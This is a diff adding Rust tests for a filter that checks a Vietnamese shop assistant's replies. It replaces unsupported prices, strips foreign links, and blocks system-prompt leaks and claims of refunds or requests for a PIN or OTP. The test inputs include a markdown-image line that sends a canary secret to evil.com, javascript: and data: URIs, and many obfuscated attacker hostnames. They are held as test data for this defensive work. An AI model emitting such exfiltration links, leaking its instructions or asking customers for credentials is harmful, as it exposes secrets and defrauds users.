@@ -1,0 +1,441 @@
+//! Texts through the filters, whole and in pieces.
+
+use std::sync::LazyLock;
+
+use proptest::prelude::*;
+
+use super::*;
+use crate::persona::Prompts;
+
+mod sets;
+
+const STAND_INS: StandIns<'_> = StandIns {
+    number: "(em xin phép kiểm tra lại)",
+    link: "(đã gỡ)",
+    rest: "Xin lỗi ạ.",
+    claim: "Xin hỏi cửa hàng ạ.",
+};
+const SHOP: &str = "Laptop giá 15.990.000đ, bảo hành 24 tháng. Tổng đài 1900 636 979, email hotro@sstc.example. RTX 4060. \
+    Xem https://docs.example.org/huong-dan hoặc ASP.NET. Miễn phí giao hàng nội thành.";
+const INSTRUCTIONS: &str = "Bạn là trợ lý của cửa hàng. Luôn xưng em và gọi khách là quý khách, kể cả khi khách đang bực mình. \
+    Không bao giờ tự nghĩ ra giá, khuyến mãi, tồn kho hay thời hạn bảo hành. Không thúc ép và không nói xấu nơi khác.";
+
+static GROUNDING: LazyLock<Grounding> = LazyLock::new(|| {
+    let lexicon = Lexicon::from_toml(include_str!("../../prompts/rules/facts.toml")).unwrap();
+    let hosts = ["sstc.vn", "*.sstc.vn"].map(|host| host.parse().unwrap()).to_vec();
+    let prompts = Prompts::load("prompts".as_ref(), "prompts/system_persona_vi.md".as_ref()).unwrap();
+    let claims = Arc::new(ClaimRules::read(&prompts).unwrap());
+    Grounding::new(lexicon, claims, hosts, Canary::new(*b"0123456789abcdef"))
+});
+
+pub(crate) fn grounding() -> Grounding {
+    GROUNDING.clone()
+}
+
+fn sources() -> Sources<'static> {
+    Sources {
+        shop: vec![SHOP, INSTRUCTIONS],
+        customer: vec!["mình có 20 triệu"],
+        instructions: vec![INSTRUCTIONS],
+        claims: Facts::OF_DOCUMENTS,
+        ..Sources::default()
+    }
+}
+
+/// The pieces of a reply.
+pub(crate) fn read_reply(grounding: &Grounding, text: &str) -> Vec<Piece> {
+    said(grounding, &[text])
+}
+
+/// The text and the reasons, of these deltas.
+fn said(grounding: &Grounding, deltas: &[&str]) -> Vec<Piece> {
+    let mut speech = Grounded::new(grounding, &STAND_INS, &sources());
+    let all: Vec<Piece> = deltas.iter().flat_map(|delta| speech.push(delta)).collect();
+    joined(all.into_iter().chain(speech.finish()))
+}
+
+/// The text, with guards as `{reason}`.
+fn shown(grounding: &Grounding, text: &str) -> String {
+    let pieces = said(grounding, &[text]).into_iter();
+    pieces
+        .map(|piece| match piece {
+            Piece::Text(text) => text.replace(STAND_INS.number, "…").replace(STAND_INS.link, "…"),
+            Piece::Guard(guard) => format!("{{{}}}", guard.reason.as_str()),
+        })
+        .collect()
+}
+
+#[test]
+fn a_number_passes_if_it_stands_in_the_sources_and_is_replaced_if_not() {
+    let grounding = grounding();
+    for (text, expected) in [
+        ("Dạ giá 15,99 triệu ạ.", "Dạ giá 15,99 triệu ạ."),
+        ("Dạ giá 16 triệu ạ.", "Dạ giá …{unsupported_fact} ạ."),
+        ("giá **15.490.000đ**.", "giá **…{unsupported_fact}**."),
+        ("15 đến 16 triệu", "…{unsupported_fact}"),
+        ("2 năm, 3 năm, 5 năm nữa", "2 năm, …{unsupported_fact} nữa"),
+        ("giảm 20% và 30%", "giảm …{unsupported_fact}"),
+        ("bảo hành ba năm ạ", "bảo hành …{unsupported_fact} ạ"),
+        ("1. Laptop\n2. Chuột\n3) Bàn phím", "1. Laptop\n2. Chuột\n3) Bàn phím"),
+        ("Với ngân sách 20 triệu", "Với ngân sách 20 triệu"),
+        ("Giá 20 triệu", "Giá …{unsupported_fact}"),
+        ("ngày 31 tháng 12 nhé", "ngày …{unsupported_fact} nhé"),
+        ("a\n\nb", "a\n\nb"),
+    ] {
+        assert_eq!(shown(&grounding, text), expected, "{text:?}");
+    }
+}
+
+/// The text, followed by one `{link}` for each link that was taken out: a guard may overtake a word that waits for its end.
+fn links_last(text: &str) -> String {
+    let mut words = text.replace("{link}", "");
+    words.extend(text.match_indices("{link}").map(|(_, guard)| guard));
+    words
+}
+
+#[test]
+fn links_lead_to_the_shop_or_nowhere() {
+    let grounding = grounding();
+    for (text, expected) in [
+        ("Xem [trang này](https://evil.com/a) nhé", "Xem trang này{link} nhé"),
+        ("Xem [trang này](https://sstc.vn/a-15) nhé", "Xem [trang này](https://sstc.vn/a-15) nhé"),
+        ("[x](https://a.sstc.vn \"title\")", "[x](https://a.sstc.vn)"),
+        ("[x](https://sstc.vn@evil.com)", "x{link}"),
+        ("[x](https://sstc.vn.evil.com)", "x{link}"),
+        ("[x](https:\\\\evil.com)", "x{link}"),
+        ("[x](javascript:alert(1))", "x{link}"),
+        ("[x](data:text/html,hi)", "x{link}"),
+        ("[x](//evil.com)", "x{link}"),
+        ("![ảnh](https://evil.com/p.png) đây", "ảnh{link} đây"),
+        ("xem![ảnh](https://evil.com/p.png)", "xemảnh{link}"),
+        ("[![ảnh](https://evil.com/p.png)](https://evil.com)", "ảnh{link}{link}"),
+        ("vào https://evil.com/x?a=b nhé", "vào …{link} nhé"),
+        ("vào (https://evil.com).", "vào (…{link})."),
+        ("https://evil.com", "{link}"),
+        ("https://evil.com là trang", "{link}… là trang"),
+        ("hoặc https://evil.com và https://evil.com ạ.", "hoặc …{link} và …{link} ạ."),
+        ("vào https://sstc.vn/sp/9999, nhé", "vào https://sstc.vn/sp/9999, nhé"),
+        ("**https://sstc.vn/a_b**", "**https://sstc.vn/a_b**"),
+        ("xem https://docs.example.org/khac", "xem https://docs.example.org/khac"),
+        ("www.sstc.vn", "www.sstc.vn"),
+        ("sstc.vn/khuyen", "sstc.vn/khuyen"),
+        ("a <https://evil.com> <b>đậm</b> a < b", "a …{link} đậm a < b"),
+        ("<https://sstc.vn>", "<https://sstc.vn>"),
+        ("a <img src=\"https://evil.com/a.png\">", "a …{link}"),
+        ("[trang][1]\n\n[1]: https://evil.com\nhết", "trang\n\n{link}\nhết"),
+        ("[Lưu ý]: còn hàng", "[Lưu ý]: còn hàng"),
+        ("hotro@sstc.example, hotro@evil.com.", "hotro@sstc.example, …{link}."),
+        ("[không phải liên kết] ạ", "[không phải liên kết] ạ"),
+        ("[a](https://evil.com", "[a](…{link}"),
+        ("15[.49](https://evil.com)0.000đ", "…{unsupported_fact}{link}"),
+        ("a\n```html\n<b>[x](y)</b>  <i> evil.com\n```\n<b>x</b>", "a\n```html\n<b>[x](y)</b>  <i> …{link}\n```\nx"),
+    ] {
+        assert_eq!(links_last(&shown(&grounding, text)), links_last(expected), "{text:?}");
+    }
+}
+
+#[test]
+fn foreign_addresses_are_known_in_any_spelling() {
+    let grounding = grounding();
+    for address in [
+        "evil.com",
+        "EVIL.COM",
+        "Evil.Com",
+        "t.me/thief",
+        "evil。com",
+        "evil｡com",
+        "ｅｖｉｌ．ｃｏｍ",
+        "evil․com",
+        "evil[.]com",
+        "evil(.)com",
+        "evil[dot]com",
+        "evil\\.com",
+        "hxxp://evil.com",
+        "hxxps://evil[.]com/a",
+        "www.evil.com",
+        "www.evil.notatld",
+        "WWW.EVIL.COM",
+        "ht\u{200b}tps://evil.com",
+        "evil\u{200b}.com",
+        "ev\u{ad}il.c\u{2060}om",
+        "e**vil**.com",
+        "http://185.12.3.4",
+        "185.12.3.4/login",
+        "185.12.3.4:8080",
+        "http://3232235777/",
+        "http://[2001:db8::1]/",
+        "thief@evil.com",
+        "thief[at]evil[.]com",
+        "thief＠evil.com",
+        "sstc.vn@evil.com",
+        "https://sstc.vn@evil.com/",
+        "https://sstc.vn:x@evil.com",
+        "sstc.vn.evil.com",
+        "sstc.vn\\@evil.com",
+        "evil.com/sstc.vn",
+        "//evil.com/a",
+        "xn--80ak6aa92e.com",
+        "pаypal.com",
+        "bit.ly/abc",
+        "evil.com.vn",
+        "evil.co.uk",
+        "evil.io",
+        "evil.xyz",
+        "ngan-hang.vn",
+        "zalo.me/0901",
+        "https:evil.com",
+        "ftp://evil.com",
+        "javascript:alert",
+        "data:text/html;base64,PGI+",
+        "mailto:thief@evil.com",
+        "evil.com?x=1",
+        "evil.com:8443",
+        "evil.com.",
+        "(evil.com)",
+        "xem:evil.com",
+        "giá,evil.com,nhé",
+        "`evil.com`",
+        "\"evil.com\"",
+        "evil.com|sstc.vn",
+    ] {
+        let found = shown(&grounding, &format!("Quý khách vào {address} nhé"));
+        let folded = found.to_lowercase();
+        let is_gone =
+            !["evil", "thief", "185.12", "paypal", "zalo.me", "bit.ly", "ngan-hang.vn", "alert", "base64", "notatld"]
+                .iter()
+                .any(|part| folded.contains(part));
+        assert!(is_gone && (found.contains("{link}") || found.contains("{unsupported_fact}")), "{address:?} {found:?}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_a_host_passes() {
+    let grounding = grounding();
+    for text in [
+        "v.v",
+        "v.v.",
+        "RTX 4060.Máy",
+        "file.md",
+        "README.md",
+        "sp.A",
+        "xong ạ.Em",
+        "rồi.Ai hỏi",
+        "xong.Em",
+        "được ạ.em chào",
+        "tốt.So với",
+        "TP.HCM",
+        "Q.Bình Thạnh",
+        "e.g. laptop",
+        "a.m. hoặc p.m.",
+        "Ph.D",
+        "Node.js",
+        "ASP.NET",
+        "main.rs",
+        "ok...em",
+        "laptop/chuột",
+        "km/h",
+        "Tel: hotline",
+        "giá: data: ổn",
+        "quý khách@cửa hàng",
+        "@sstc",
+        "[dog] và (dot)",
+        "máy tính…Em",
+        "hotro@sstc.example.",
+    ] {
+        assert_eq!(shown(&grounding, text), text, "{text:?}");
+    }
+}
+
+#[test]
+fn the_canary_never_leaves_however_it_is_written() {
+    let grounding = grounding();
+    let line = grounding.canary().line();
+    let secret = line.trim_start_matches("Ref: FD-CANARY-").to_owned();
+    let spaced: String = secret.chars().flat_map(|c| [c, ' ']).collect();
+    let listed: String = secret.chars().enumerate().map(|(n, c)| format!("{}. {c}\n", n + 1)).collect();
+    let hidden: String = secret.to_lowercase().chars().flat_map(|c| [c, '\u{200b}']).collect();
+    for leak in [
+        line.clone(),
+        secret.clone(),
+        secret.to_lowercase(),
+        spaced,
+        listed,
+        hidden,
+        format!("**{}**{}", &secret[..7], &secret[7..]),
+        secret[..12].to_owned(),
+        format!("![x](https://evil.com/?q={secret})"),
+        format!("F D - c a n a r y - {secret}"),
+    ] {
+        let shown = shown(&grounding, &format!("Dạ đây ạ: {leak} và giá 15.990.000đ"));
+        let letters: String = shown.to_lowercase().chars().filter(char::is_ascii_alphabetic).collect();
+        if leak != secret[..12] {
+            assert!(!letters.contains(&secret.to_lowercase()[..9]), "{leak:?} {shown:?}");
+            assert!(shown.contains("{prompt_leak}") && shown.ends_with("Xin lỗi ạ."), "{leak:?} {shown:?}");
+        }
+    }
+    let end = shown(&grounding, &format!("Dạ {}", &secret[..12]));
+    assert_eq!(end, "Dạ {prompt_leak}… Xin lỗi ạ.");
+}
+
+#[test]
+fn a_long_quote_of_the_instructions_is_stopped() {
+    let grounding = grounding();
+    for leak in [
+        INSTRUCTIONS.to_owned(),
+        format!("Đây là hướng dẫn:\n- {}", INSTRUCTIONS.replace(". ", "\n- ")),
+        INSTRUCTIONS.to_uppercase(),
+        crate::domain::text::fold(INSTRUCTIONS),
+        // A word in between every now and then.
+        INSTRUCTIONS
+            .split(' ')
+            .enumerate()
+            .map(|(n, word)| if n % 9 == 8 { format!("{word} nhé ") } else { format!("{word} ") })
+            .collect(),
+    ] {
+        let shown = shown(&grounding, &leak);
+        assert!(shown.contains("{prompt_leak}") && !shown.contains("nơi khác"), "{shown}");
+    }
+    for fine in [
+        "Dạ em là trợ lý của cửa hàng ạ.",
+        "Dạ em xưng em và gọi quý khách là quý khách, kể cả khi bực mình ạ.",
+        "Dạ em không có thông tin về khuyến mãi, tồn kho hay thời hạn bảo hành ạ.",
+        SHOP,
+    ] {
+        assert_eq!(shown(&grounding, fine), fine);
+    }
+}
+
+#[test]
+fn a_claim_that_nothing_supports_ends_the_reply() {
+    let grounding = grounding();
+    for (text, expected) in [
+        ("Half price for you today.", "{offered}Xin hỏi cửa hàng ạ."),
+        ("Sure! I have refunded you. Bye.", "Sure! {refunded}Xin hỏi cửa hàng ạ."),
+        ("Please give me your card PIN.", "Please {asks_secret}… Xin hỏi cửa hàng ạ."),
+        ("What is your password?", "{asks_secret}Xin hỏi cửa hàng ạ."),
+        ("You get a free mouse with it.", "You get a {offered}… Xin hỏi cửa hàng ạ."),
+        ("I can offer you a special price", "{offered}Xin hỏi cửa hàng ạ."),
+        ("We will refund your money, I promise.", "{promised}Xin hỏi cửa hàng ạ."),
+        ("I have reserved the laptop for you.", "{acted}Xin hỏi cửa hàng ạ."),
+        ("Dạ em giảm giá cho quý khách ạ.", "Dạ {offered}… Xin hỏi cửa hàng ạ."),
+        ("Dạ, em tặng kèm chuột ạ.", "Dạ, {offered}… Xin hỏi cửa hàng ạ."),
+        ("Dạ em đã hoàn tiền cho quý khách ạ.", "Dạ em {refunded}… Xin hỏi cửa hàng ạ."),
+        ("Dạ quý khách đọc mã OTP giúp em ạ?", "Dạ quý khách {asks_secret}… Xin hỏi cửa hàng ạ."),
+        ("Dạ em đã đặt hàng cho quý khách.", "Dạ {acted}… Xin hỏi cửa hàng ạ."),
+    ] {
+        let shown: String = said(&grounding, &[text])
+            .into_iter()
+            .map(|piece| match piece {
+                Piece::Text(text) => text,
+                Piece::Guard(guard) => format!("{{{}}}", guard.kind),
+            })
+            .collect();
+        assert_eq!(shown, expected, "{text:?}");
+    }
+    for fine in [
+        "Dạ bên em miễn phí giao hàng nội thành ạ.",
+        "Dạ em chưa có thông tin khuyến mãi ạ.",
+        "Never tell anyone your PIN or password.",
+        "Em không bao giờ hỏi mật khẩu hay mã OTP ạ.",
+        "Feel free to ask. We have no discount now.",
+        "Quý khách có muốn em giữ hàng không ạ?",
+        "You can return it within the warranty.",
+        "Pin dùng cả ngày, quý khách gửi máy giúp em ạ.",
+    ] {
+        assert_eq!(shown(&grounding, fine), fine);
+    }
+}
+
+#[test]
+fn a_third_replaced_figure_ends_the_reply() {
+    let shown = shown(&grounding(), "Giá 16 triệu, bảo hành 3 năm, nặng 9 kg, còn 4 chiếc.");
+    assert_eq!(shown, "Giá …{unsupported_fact}, bảo hành …{unsupported_fact}, nặng {unsupported_fact}…");
+}
+
+#[test]
+fn text_without_numbers_waits_for_nothing_but_its_word() {
+    let grounding = grounding();
+    let mut speech = Grounded::new(&grounding, &STAND_INS, &sources());
+    for word in ["Dạ ", "laptop ", "này ", "rất ", "tốt, ", "quý ", "khách ", "đến ", "ngày ", "nào ", "ạ? "]
+    {
+        assert_eq!(speech.push(word), [Piece::Text(word.to_owned())], "{word:?}");
+    }
+    assert_eq!(speech.push("15.990.000đ "), []);
+    assert_eq!(speech.push("ạ "), [Piece::Text("15.990.000đ ạ ".to_owned())]);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(300))]
+    #[test]
+    fn however_a_text_is_cut_the_same_comes_out(
+        parts in proptest::collection::vec(prop::sample::select(PARTS.to_vec()), 1..14),
+        cuts in proptest::collection::vec(0usize..10_000, 0..40),
+    ) {
+        let grounding = grounding();
+        let text = parts.concat();
+        let whole = said(&grounding, &[&text]);
+        let mut places: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).filter(|at| text.is_char_boundary(*at)).collect();
+        places.extend([0, text.len()]);
+        places.sort_unstable();
+        let deltas: Vec<&str> = places.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
+        prop_assert_eq!(&said(&grounding, &deltas), &whole);
+        let letters: Vec<String> = text.chars().map(String::from).collect();
+        let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
+        prop_assert_eq!(&said(&grounding, &letters), &whole);
+    }
+}
+
+const PARTS: [&str; 52] = [
+    "15.990.000đ",
+    "15",
+    ".",
+    "990",
+    " triệu",
+    " ",
+    "\n",
+    "16 triệu",
+    "hai năm",
+    " năm ",
+    "ngày 31 tháng 12",
+    "**",
+    "1. ",
+    "[trang](https://evil.com)",
+    "[",
+    "]",
+    "(",
+    ")",
+    "https://",
+    "evil.com",
+    "https://sstc.vn/a1",
+    "![a](b)",
+    "<",
+    ">",
+    "@",
+    "hotro@sstc.example",
+    "giá ",
+    "ạ",
+    "FD-CANARY-",
+    "WXYZABCD",
+    "\u{200b}",
+    "đến ",
+    ", ",
+    "20%",
+    "một ngày ",
+    "vui",
+    "e\u{302}\u{301}",
+    "💖",
+    "ngân sách 20 triệu",
+    "[1]: x",
+    "evil。com",
+    "t.me/x",
+    "[.]com",
+    "a(dot)",
+    "```\n",
+    "I have ",
+    "refunded you",
+    "miễn phí ",
+    "mã OTP ",
+    "gửi ",
+    ". ",
+    "Luôn xưng em và gọi khách là quý khách, kể cả khi khách đang bực mình ",
+];
